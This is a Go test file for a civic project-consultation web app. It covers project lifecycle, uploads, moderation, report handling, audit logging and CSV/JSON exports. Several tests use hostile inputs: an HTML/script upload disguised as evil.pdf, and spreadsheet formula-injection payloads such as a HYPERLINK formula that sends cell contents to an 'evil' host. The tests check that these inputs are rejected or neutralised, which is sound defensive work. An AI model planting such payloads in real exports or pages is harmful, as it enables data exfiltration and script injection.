package handlers_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/plazahq/plaza/apptest"
	"github.com/plazahq/plaza/config"
	"github.com/plazahq/plaza/i18n"
	"github.com/plazahq/plaza/models"
	"github.com/plazahq/plaza/models/media"
)

func TestProjectStudioLifecycle(t *testing.T) {
	apptest.EachSeeded(t, func(t *testing.T, dbURL string) {
		a := apptest.StartWith(t, dbURL, generous)
		f := apptest.Seed(t, a)
		c := a.Client(t)
		c.Login(f.ByRole[models.RoleEditor].Email, apptest.Password)
		base := fmt.Sprintf("/studio/orgs/%d/accounts/metro/projects", f.Org.ID)

		if r := c.Get(base); r.Status != 200 || !strings.Contains(r.Body, "No projects yet") {
			t.Fatalf("empty list: %s", r)
		}
		// Bad input comes back with every message and what was typed.
		r := c.Post(base, url.Values{"title.en": {""}, "summary.en": {"A <b>bold</b> plan"}, "latitude": {"north"},
			"budget": {"lots"}, "budget_currency": {"dollars"}, "opens_at": {"2026-12-10T09:00"}, "closes_at": {"2026-12-01T09:00"}})
		if r.Status != http.StatusUnprocessableEntity || !strings.Contains(r.Body, "A &lt;b&gt;bold&lt;/b&gt; plan") ||
			!strings.Contains(r.Body, "Enter a number") || !strings.Contains(r.Body, "whole number") {
			t.Fatalf("bad input: %s", r)
		}
		r = c.Post(base, url.Values{"title.en": {""}, "latitude": {"22.3"}, "budget_currency": {"dollars"},
			"opens_at": {"2026-12-10T09:00"}, "closes_at": {"2026-12-01T09:00"}})
		for _, want := range []string{i18n.T(i18n.EN, "projects.err_title_default"), "both latitude and longitude", "three-letter currency", "must close after it opens"} {
			if r.Status != http.StatusUnprocessableEntity || !strings.Contains(r.Body, want) {
				t.Fatalf("want %q: %s", want, r)
			}
		}
		r = c.Post(base, url.Values{"title.en": {"Harbour Bridge"}, "title.zh-Hans": {"海港大桥"}, "summary.en": {"A bridge."},
			"body.en": {"## Why\nTraffic."}, "address": {"Pier 7"}, "latitude": {"22.2855"}, "longitude": {"114.1577"},
			"budget": {"1,200,000,000"}, "budget_currency": {"hkd"}, "districts": {"Central\nWan Chai\nCentral"}})
		if r.Status != http.StatusSeeOther {
			t.Fatalf("create: %s", r)
		}
		var p models.Project
		if err := a.Store.DB().Order("id DESC").First(&p).Error; err != nil {
			t.Fatal(err)
		}
		if p.Status != models.ProjectProposed || p.Public || *p.Budget != 1200000000 || p.BudgetCurrency != "HKD" || p.Districts != "Central\nWan Chai" {
			t.Fatalf("stored project: %+v", p)
		}
		page := fmt.Sprintf("%s/%d", base, p.ID)
		public := fmt.Sprintf("/@metro/projects/%d", p.ID)
		anon := a.Client(t)
		if r := anon.Get(public); r.Status != http.StatusNotFound {
			t.Fatalf("a project that is not public must not show: %s", r)
		}
		// A consultation needs a closing time.
		if r := c.Post(page+"/status", url.Values{"status": {"consultation"}}); r.Status != 422 || !strings.Contains(r.Body, "needs a closing time") {
			t.Fatalf("consultation without close: %s", r)
		}
		if r := c.Post(page+"/status", url.Values{"status": {"finished"}, "on": {"yesterday"}}); r.Status != 422 ||
			!strings.Contains(r.Body, "Enter a date such as") {
			t.Fatalf("bad status: %s", r)
		}
		closes := a.Store.Now().Add(72 * time.Hour).Format("2006-01-02T15:04")
		if r := c.Post(page, url.Values{"title.en": {"Harbour Bridge"}, "title.zh-Hans": {"海港大桥"}, "summary.en": {"A bridge."},
			"closes_at": {closes}, "public": {"on"}, "districts": {"Central\nWan Chai"}, "address": {"Pier 7"}, "latitude": {"22.2855"},
			"longitude": {"114.1577"}, "budget": {"1200000000"}, "budget_currency": {"HKD"}}); r.Status != http.StatusSeeOther {
			t.Fatalf("save: %s", r)
		}
		if r := c.Post(page+"/status", url.Values{"status": {"consultation"}, "on": {"2026-11-20"}, "note.en": {"Tell us by Friday"}}); r.Status != http.StatusSeeOther {
			t.Fatalf("open consultation: %s", r)
		}
		// Files: an image, a PDF, and something that is neither.
		if r := c.Upload(page+"/files", "file", "plan.png", stPNG(t, 40, 30)); r.Status != http.StatusSeeOther {
			t.Fatalf("image upload: %s", r)
		}
		pdf := []byte("%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")
		if r := c.Upload(page+"/files", "file", "study.pdf", pdf); r.Status != http.StatusSeeOther {
			t.Fatalf("pdf upload: %s", r)
		}
		if r := c.Upload(page+"/files", "file", "evil.pdf", []byte("<html><script>alert(1)</script>")); r.Status != 422 ||
			!strings.Contains(r.Body, "PNG, JPEG, WebP or GIF image, or a PDF") {
			t.Fatalf("bad file: %s", r)
		}
		if r := c.Upload(page+"/files", "file", "huge.pdf", append([]byte("%PDF-1.4\n"), make([]byte, media.MaxDocumentBytes)...)); r.Status != http.StatusRequestEntityTooLarge && r.Status != 422 {
			t.Fatalf("oversized file: %s", r)
		}
		files, err := a.Media.ProjectFiles(context.Background(), p.ID)
		if err != nil || len(files) != 2 || files[0].Kind != "image" || files[1].Kind != "document" || files[1].Filename != "study.pdf" {
			t.Fatalf("files: %+v %v", files, err)
		}
		// Questions, with their validation.
		if r := c.Post(page+"/questions", url.Values{"q_kind": {"single"}, "label.en": {"How do you cross?"}, "options.en": {"Ferry"},
			"options.zh-Hans": {"渡轮\n隧道"}}); r.Status != 422 || !strings.Contains(r.Body, "between two and twenty") || !strings.Contains(r.Body, i18n.T(i18n.EN, "projects.err_options_same_count")) {
			t.Fatalf("bad question: %s", r)
		}
		if r := c.Post(page+"/questions", url.Values{"q_kind": {"single"}, "label.en": {"How do you cross?"}, "label.zh-Hans": {"您如何过海？"},
			"options.en": {"Ferry\nTunnel"}, "options.zh-Hans": {"渡轮\n隧道"}, "q_required": {"on"}}); r.Status != http.StatusSeeOther {
			t.Fatalf("add question: %s", r)
		}
		if r := c.Post(page+"/questions", url.Values{"q_kind": {"text"}, "label.en": {"Anything else?"}}); r.Status != http.StatusSeeOther {
			t.Fatalf("add text question: %s", r)
		}
		r = c.Get(page)
		for _, want := range []string{"Harbour Bridge", "Consultation", "Tell us by Friday", "study.pdf", "How do you cross?", "Anything else?"} {
			if r.Status != 200 || !strings.Contains(r.Body, want) {
				t.Fatalf("studio page lacks %q: %s", want, r)
			}
		}
		// The public page: timeline, countdown, documents, the form.
		r = anon.Get(public)
		for _, want := range []string{"Harbour Bridge", "Consultation open", "days", "study.pdf", "How do you cross?", `name="stance"`,
			"HKD 1,200,000,000", "Tell us by Friday", `name="website"`} {
			if r.Status != 200 || !strings.Contains(r.Body, want) {
				t.Fatalf("public page lacks %q: %s", want, r)
			}
		}
		if r := anon.Get("/@metro/projects"); r.Status != 200 || !strings.Contains(r.Body, "Harbour Bridge") || !strings.Contains(r.Body, "Open for comment") {
			t.Fatalf("account list: %s", r)
		}
		if r := anon.Get("/projects"); r.Status != 200 || !strings.Contains(r.Body, "Harbour Bridge") {
			t.Fatalf("city list: %s", r)
		}
		// An open consultation has one badge saying so, not two (the
		// status "Consultation" beside "Open for comment").
		for _, list := range []string{"/@metro/projects", "/projects"} {
			if r := anon.Get(list); strings.Contains(r.Body, `<span class="badge">Consultation</span>`) || !strings.Contains(r.Body, `<span class="badge open">Open for comment</span>`) {
				t.Fatalf("%s badges of an open consultation: %s", list, r)
			}
		}
		// Announcing the consultation drafts an update notice with a link.
		if r := c.Post(page+"/announce", url.Values{"what": {"opening"}}); r.Status != http.StatusSeeOther || !strings.Contains(r.Location, "/notices/") {
			t.Fatalf("announce: %s", r)
		}
		n := newestNotice(t, a)
		if n.Kind != models.NoticeUpdate || n.Status != models.NoticeDraft || !strings.Contains(n.Title("en"), "Harbour Bridge") ||
			!strings.Contains(n.Body("en"), public) || !strings.Contains(n.Title("zh-Hans"), "海港大桥") {
			t.Fatalf("announcement: %+v", n)
		}
		if r := c.Post(page+"/announce", url.Values{"what": {"gossip"}}); r.Status != http.StatusBadRequest {
			t.Fatalf("unknown announcement: %s", r)
		}
		// A decision is offered for announcing only once there is one; a
		// stale page's request is turned back with why, drafting nothing.
		if r := c.Get(page); strings.Contains(r.Body, `name="what" value="decision"`) || !strings.Contains(r.Body, `name="what" value="opening"`) {
			t.Fatalf("a consultation offers to announce a decision: %s", r)
		}
		if r := c.Post(page+"/announce", url.Values{"what": {"decision"}}); r.Status != http.StatusSeeOther || !strings.HasPrefix(r.Location, page) {
			t.Fatalf("announce an undecided decision: %s", r)
		} else if back := c.Get(r.Location); !strings.Contains(back.Body, "There is no decision to announce yet") {
			t.Fatalf("no reason given: %s", back)
		}
		if newestNotice(t, a).ID != n.ID {
			t.Fatal("a decision was announced before there was one")
		}
		if r := c.Post(page+"/status", url.Values{"status": {"decided"}, "note.en": {"Approved."}}); r.Status != http.StatusSeeOther {
			t.Fatalf("decide: %s", r)
		}
		if r := c.Get(page); !strings.Contains(r.Body, `name="what" value="decision"`) {
			t.Fatalf("a decided project does not offer its decision: %s", r)
		}
		if r := c.Post(page+"/announce", url.Values{"what": {"decision"}}); r.Status != http.StatusSeeOther || !strings.Contains(r.Location, "/notices/") {
			t.Fatalf("announce the decision: %s", r)
		}
		// Deleting is a section of its own, not a link under the form's
		// Save button; it asks first, then removes the project and its files.
		if r := c.Get(page); !regexp.MustCompile(`</form>\s*</section>\s*<section aria-labelledby="delete-h" id="delete" class="panel"><h2 id="delete-h" class="h3">Delete this project</h2><p class="hint">[^<]+</p><p><a class="danger-link" href="` +
			regexp.QuoteMeta(page+"/delete") + `">Delete project</a>`).MatchString(r.Body) {
			t.Fatalf("the delete section: %s", r)
		}
		if r := c.Get(page + "/delete"); r.Status != 200 || !strings.Contains(r.Body, "cannot be undone") {
			t.Fatalf("delete confirm: %s", r)
		}
		if r := c.Post(page+"/delete", nil); r.Status != http.StatusSeeOther {
			t.Fatalf("delete: %s", r)
		}
		if r := anon.Get(public); r.Status != http.StatusNotFound {
			t.Fatalf("deleted project still shows: %s", r)
		}
		var media int64
		a.Store.DB().Table("media").Where("id IN ?", []int64{files[0].MediaID, files[1].MediaID}).Count(&media)
		if media != 0 {
			t.Fatalf("%d files left behind", media)
		}
	})
}

func TestModerationAndResults(t *testing.T) {
	apptest.EachSeeded(t, func(t *testing.T, dbURL string) {
		a := apptest.StartWith(t, dbURL, generous)
		f := apptest.Seed(t, a)
		ctx := context.Background()
		p := openProject(t, a, f, "Central\nWan Chai")
		q, err := a.Projects.AddProjectQuestion(ctx, f.Member(models.RoleOwner), f.Account, p.ID, models.QuestionInput{
			Kind: models.QuestionText, Translations: models.Translations{"en": {"label": "Anything else?"}}})
		if err != nil {
			t.Fatal(err)
		}
		pp, err := a.Projects.PublicProjectByID(ctx, "metro", p.ID)
		if err != nil {
			t.Fatal(err)
		}
		submit := func(stance, comment, district, contact string) *models.Feedback {
			s, err := a.Projects.SubmitFeedback(ctx, pp, models.FeedbackInput{Stance: stance, Comment: comment, District: district,
				Contact: contact, Consent: true, Answers: map[int64][]string{q.ID: {"=HYPERLINK(\"http://evil\")"}}})
			if err != nil {
				t.Fatal(err)
			}
			return s.Feedback
		}
		good := submit("support", "支持兴建，方便上班。", "Central", "a@example.org")
		rude := submit("oppose", "Rude words", "Wan Chai", "")
		spam := submit("neutral", "Buy pills", "", "")
		submit("support", "", "Central", "")

		mod := a.Client(t)
		mod.Login(f.ByRole[models.RoleModerator].Email, apptest.Password)
		base := fmt.Sprintf("/studio/orgs/%d/accounts/metro/projects/%d", f.Org.ID, p.ID)
		r := mod.Get(base + "/feedback?status=pending")
		if r.Status != 200 || !strings.Contains(r.Body, "支持兴建") || !strings.Contains(r.Body, "Pending (4)") {
			t.Fatalf("queue: %s", r)
		}
		// Where an answer came from reads as words, not the stored "web".
		if !strings.Contains(r.Body, "· Web form") || strings.Contains(r.Body, "· web<") {
			t.Errorf("queue does not name the web form in words: %s", r)
		}
		if r := mod.Get(base + "/feedback?q=pills"); !strings.Contains(r.Body, "Buy pills") || strings.Contains(r.Body, "Rude words") {
			t.Fatalf("search: %s", r)
		}
		if r := mod.Get(base + "/feedback?stance=oppose&district=Wan+Chai"); !strings.Contains(r.Body, "Rude words") || strings.Contains(r.Body, "Buy pills") {
			t.Fatalf("filters: %s", r)
		}
		// Bulk: nothing selected says so; then spam and hide.
		if r := mod.Post(base+"/feedback", url.Values{"action": {"spam"}}); r.Status != http.StatusSeeOther {
			t.Fatalf("bulk with nothing: %s", r)
		}
		if r := mod.Post(base+"/feedback", url.Values{"action": {"spam"}, "ids": {"x"}}); r.Status != http.StatusBadRequest {
			t.Fatalf("bulk with a bad id: %s", r)
		}
		if r := mod.Post(base+"/feedback", url.Values{"action": {"spam"}, "ids": {fmt.Sprint(spam.ID)}}); r.Status != http.StatusSeeOther {
			t.Fatalf("spam: %s", r)
		}
		if r := mod.Post(base+"/feedback", url.Values{"action": {"hidden"}, "ids": {fmt.Sprint(rude.ID)}}); r.Status != http.StatusSeeOther {
			t.Fatalf("hide: %s", r)
		}
		if r := mod.Post(base+"/feedback", url.Values{"action": {"delete-everything"}, "ids": {fmt.Sprint(rude.ID)}}); r.Status != http.StatusSeeOther {
			t.Fatalf("unknown action: %s", r)
		}
		// An official response, published with the comment.
		item := fmt.Sprintf("%s/feedback/%d", base, good.ID)
		if r := mod.Post(item, url.Values{"response": {strings.Repeat("r", 5001)}, "action": {"publish"}}); r.Status != 422 || !strings.Contains(r.Body, "too long") {
			t.Fatalf("long response: %s", r)
		}
		if r := mod.Post(item, url.Values{"response": {"Thank you. Construction starts in 2027."}, "action": {"publish"}}); r.Status != http.StatusSeeOther {
			t.Fatalf("respond: %s", r)
		}
		// Another organization's moderator cannot touch it.
		out := a.Client(t)
		out.Login(f.Outside.Email, apptest.Password)
		if r := out.Post(item, url.Values{"response": {"hijack"}, "action": {"publish"}}); r.Status != http.StatusNotFound {
			t.Fatalf("outsider: %s", r)
		}
		// The public page shows the published comment with its response,
		// and results that count all but spam, by stance and district.
		anon := a.Client(t)
		r = anon.Get(fmt.Sprintf("/@metro/projects/%d", p.ID))
		for _, want := range []string{"支持兴建，方便上班。", "Construction starts in 2027", "Results so far", "3 answers",
			"2 in support, 1 against, 0 neutral", "<th scope=\"row\">Central</th>", "<th scope=\"row\">Wan Chai</th>", "Comments (1)"} {
			if r.Status != 200 || !strings.Contains(r.Body, want) {
				t.Fatalf("public page lacks %q: %s", want, r)
			}
		}
		if strings.Contains(r.Body, "Rude words") || strings.Contains(r.Body, "Buy pills") {
			t.Fatalf("hidden or spam shown: %s", r)
		}
		// Citizens report; each counts once, and enough reports take the
		// comment down until a moderator looks again.
		report := fmt.Sprintf("/@metro/projects/%d/comments/%d/report", p.ID, good.ID)
		// A report asks why; without a reason, or with too long a note,
		// the form comes back with the note kept and nothing counted.
		for _, form := range []url.Values{nil, {"reason": {"because"}, "note": {"Kept note"}}, {"reason": {"spam"}, "note": {strings.Repeat("n", 501) + "Kept note"}}} {
			if r := anon.Post(report, form); r.Status != http.StatusUnprocessableEntity || !strings.Contains(r.Body, "error-summary") ||
				(form.Get("note") != "" && !strings.Contains(r.Body, "Kept note</textarea>")) {
				t.Fatalf("report %v: %s", form, r)
			}
		}
		why := url.Values{"reason": {"personal"}, "note": {"It names my neighbour."}}
		if r := anon.Post(report, why); r.Status != http.StatusSeeOther || !strings.Contains(r.Location, "reported=1") {
			t.Fatalf("report: %s", r)
		}
		anon.Post(report, why)
		if fb := feedbackRows(t, a, p.ID)[0]; fb.Reports != 1 || fb.Status != models.FeedbackPublished {
			t.Fatalf("after one person's reports: %+v", fb)
		}
		for _, who := range []string{"b", "c"} {
			if err := a.Projects.ReportFeedback(ctx, p.ID, good.ID, who); err != nil {
				t.Fatal(err)
			}
		}
		if fb := feedbackRows(t, a, p.ID)[0]; fb.Reports != models.ReportsToHide || fb.Status != models.FeedbackPending {
			t.Fatalf("after three reports: %+v", fb)
		}
		if r := anon.Get(fmt.Sprintf("/@metro/projects/%d", p.ID)); strings.Contains(r.Body, "支持兴建") {
			t.Fatalf("reported comment still shown")
		}
		if r := mod.Get(base + "/feedback?reported=1"); !strings.Contains(r.Body, "Reported 3 times") {
			t.Fatalf("reported queue: %s", r)
		}
		// Moderators read why.
		if r := mod.Get(fmt.Sprintf("%s/feedback/%d", base, good.ID)); !strings.Contains(r.Body, "Shares someone&#39;s personal details") ||
			!strings.Contains(r.Body, "It names my neighbour.") {
			t.Fatalf("report reasons not shown: %s", r)
		}
		if r := anon.Post(report, why); r.Status != http.StatusNotFound {
			t.Fatalf("reporting a comment that is not published: %s", r)
		}
		if r := mod.Post(base+"/feedback", url.Values{"action": {"published"}, "ids": {fmt.Sprint(good.ID)}}); r.Status != http.StatusSeeOther {
			t.Fatalf("republish: %s", r)
		}
		if fb := feedbackRows(t, a, p.ID)[0]; fb.Reports != 0 || fb.Status != models.FeedbackPublished {
			t.Fatalf("a moderator's look clears the reports: %+v", fb)
		}
		// The official summary.
		if r := mod.Post(base+"/summary", url.Values{"result.en": {"Most people **support** the bridge."}, "result.zh-Hans": {"多数市民支持。"}}); r.Status != http.StatusSeeOther {
			t.Fatalf("summary: %s", r)
		}
		if r := anon.Get(fmt.Sprintf("/@metro/projects/%d", p.ID)); !strings.Contains(r.Body, "<strong>support</strong>") || !strings.Contains(r.Body, "Official summary") {
			t.Fatalf("summary not shown: %s", r)
		}
		// Every moderation step is in the audit log.
		var actions []string
		a.Store.DB().Model(&models.AuditEntry{}).Where("action LIKE 'feedback.%' OR action = 'project.summary'").Order("id").Pluck("action", &actions)
		if strings.Join(actions, ",") != "feedback.spam,feedback.hidden,feedback.respond,feedback.published,project.summary" {
			t.Fatalf("audit: %v", actions)
		}

		// Exports: CSV with a BOM, read back; JSON, read back.
		r = mod.Get(base + "/export.csv")
		if r.Status != 200 || !strings.HasPrefix(r.Body, "\uFEFF") || !strings.Contains(r.Header.Get("Content-Disposition"), "attachment") {
			t.Fatalf("csv: %s", r)
		}
		recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.Body, "\uFEFF"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(recs) != 5 || recs[0][0] != "id" || recs[0][len(recs[0])-1] != "Anything else?" || recs[1][4] != "支持兴建，方便上班。" ||
			recs[1][len(recs[1])-1] != `'=HYPERLINK("http://evil")` || recs[3][10] != "spam" {
			t.Fatalf("csv rows: %q", recs)
		}
		r = mod.Get(base + "/export.json")
		var list []map[string]any
		if err := json.Unmarshal([]byte(r.Body), &list); err != nil || len(list) != 4 || list[0]["comment"] != "支持兴建，方便上班。" ||
			list[0]["response"] != "Thank you. Construction starts in 2027." {
			t.Fatalf("json: %v %s", err, r)
		}
		// Editors write projects but do not see contact details.
		ed := a.Client(t)
		ed.Login(f.ByRole[models.RoleEditor].Email, apptest.Password)
		if r := ed.Get(base + "/export.csv"); r.Status != http.StatusForbidden {
			t.Fatalf("editor export: %s", r)
		}
	})
}

func TestExportOfAnEmptyProject(t *testing.T) {
	apptest.EachSeeded(t, func(t *testing.T, dbURL string) {
		a := apptest.Start(t, dbURL)
		f := apptest.Seed(t, a)
		p := openProject(t, a, f, "")
		c := a.Client(t)
		c.Login(f.ByRole[models.RoleOwner].Email, apptest.Password)
		base := fmt.Sprintf("/studio/orgs/%d/accounts/metro/projects/%d", f.Org.ID, p.ID)
		if r := c.Get(base + "/export.csv"); r.Status != 200 || !bytes.Equal([]byte(r.Body), []byte("\uFEFF"+strings.Join([]string{"id", "created_at",
			"updated_at", "stance", "comment", "name", "contact", "district", "channel", "language", "status", "reports", "response", "response_at"}, ",")+"\n")) {
			t.Fatalf("empty csv: %q", r.Body)
		}
		if r := c.Get(base + "/export.json"); r.Status != 200 || strings.TrimSpace(r.Body) != "[\n]" {
			t.Fatalf("empty json: %q", r.Body)
		}
	})
}

// The first step of a project's timeline is dated in the zone staff work
// in, not in UTC: UTC-11 is a day behind UTC for most of the day.
func TestProjectTimelineUsesStaffZone(t *testing.T) {
	apptest.EachSeeded(t, func(t *testing.T, dbURL string) {
		zone := time.FixedZone("UTC-11", -11*3600)
		a := apptest.StartWith(t, dbURL, func(c *config.Config) { c.Location = zone })
		f := apptest.Seed(t, a)
		c := a.Client(t)
		c.Login(f.ByRole[models.RoleEditor].Email, apptest.Password)
		if r := c.Post(fmt.Sprintf("/studio/orgs/%d/accounts/metro/projects", f.Org.ID), url.Values{"title.en": {"Zone"}}); r.Status != http.StatusSeeOther {
			t.Fatalf("create: %s", r)
		}
		var ev models.ProjectEvent
		if err := a.Store.DB().Order("id DESC").First(&ev).Error; err != nil {
			t.Fatal(err)
		}
		if want := a.Store.Now().In(zone).Format(time.DateOnly); ev.HappenedOn != want {
			t.Fatalf("first step dated %s, want %s (today in the staff's zone)", ev.HappenedOn, want)
		}
	})
}

// Question labels are typed by staff and land in the export's header row:
// a label that is a formula is neutralised there as answers are in the
// data rows, whether or not anyone has answered yet.
func TestExportHeaderNeutralisesFormulas(t *testing.T) {
	labels := []struct{ en, zh, want string }{
		{`=HYPERLINK("http://evil/?"&A1,"x") Q`, "", `'=HYPERLINK("http://evil/?"&A1,"x") Q`},
		{"+1+1", "", "'+1+1"},
		{"-2+3", "", "'-2+3"},
		{"@SUM(A1:A2)", "", "'@SUM(A1:A2)"},
		{"=1+1 中文", "=2+2", "'=1+1 中文"}, // the header is the default language's label
		{"How often do you cross?", "", "How often do you cross?"},
	}
	apptest.EachSeeded(t, func(t *testing.T, dbURL string) {
		a := apptest.StartWith(t, dbURL, generous)
		f := apptest.Seed(t, a)
		ctx := context.Background()
		p := openProject(t, a, f, "")
		for _, l := range labels {
			if _, err := a.Projects.AddProjectQuestion(ctx, f.Member(models.RoleOwner), f.Account, p.ID, models.QuestionInput{
				Kind: models.QuestionText, Translations: models.Translations{"en": {"label": l.en}, "zh-Hans": {"label": l.zh}}}); err != nil {
				t.Fatal(err)
			}
		}
		mod := a.Client(t)
		mod.Login(f.ByRole[models.RoleModerator].Email, apptest.Password)
		export := fmt.Sprintf("/studio/orgs/%d/accounts/metro/projects/%d/export.csv", f.Org.ID, p.ID)
		header := func(t *testing.T) []string {
			t.Helper()
			r := mod.Get(export)
			if r.Status != http.StatusOK {
				t.Fatalf("export: %s", r)
			}
			head, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.Body, "\uFEFF"))).Read()
			if err != nil {
				t.Fatal(err)
			}
			return head
		}
		check := func(t *testing.T) {
			head := header(t)
			extra := head[len(head)-len(labels):]
			for i, l := range labels {
				if extra[i] != l.want {
					t.Errorf("header cell for %q = %q, want %q", l.en+l.zh, extra[i], l.want)
				}
			}
		}
		t.Run("no answers", check)
		r := a.Client(t).Post(fmt.Sprintf("/@metro/projects/%d/feedback", p.ID), url.Values{"stance": {"support"}, "consent": {"on"}})
		if r.Status != http.StatusSeeOther {
			t.Fatalf("answer: %s", r)
		}
		t.Run("with answers", check)
	})
}
